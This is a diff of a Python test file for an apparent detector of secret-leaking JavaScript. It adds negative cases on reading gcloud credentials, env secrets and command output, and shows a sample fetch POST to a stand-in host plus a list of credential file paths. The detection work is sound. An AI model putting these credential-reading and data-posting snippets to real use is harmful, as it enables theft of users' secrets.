@@ -131,6 +131,23 @@ fetch('https://a.invalid/s', { method: 'POST', body: text });
 
 
 @pytest.mark.parametrize(
+    "source",
+    [
+        # The address is in the same credentials.
+        (
+            "const c = JSON.parse(fs.readFileSync(home + '/.config/gcloud/credentials'));"
+            " client.request({ url: c.token_uri, method: 'POST', data: c.refresh_token });"
+        ),
+        "const { env } = process; post((env.A_SECRET || 'abc') + (env.B_SECRET || 'd'));",
+        "const out = cp.execSync('code --version', { env: { ...process.env } }); post(out);",
+        "post(process.env.A_PUBLIC_KEY + process.env.B_PUBLIC_KEY);",
+    ],
+)
+def test_what_is_no_secret_of_the_user_is_not_found(source: str) -> None:
+    assert findings_of(CHECK, START + source) == []
+
+
+@pytest.mark.parametrize(
     "path",
     [
         "/.config/solana/id.json",
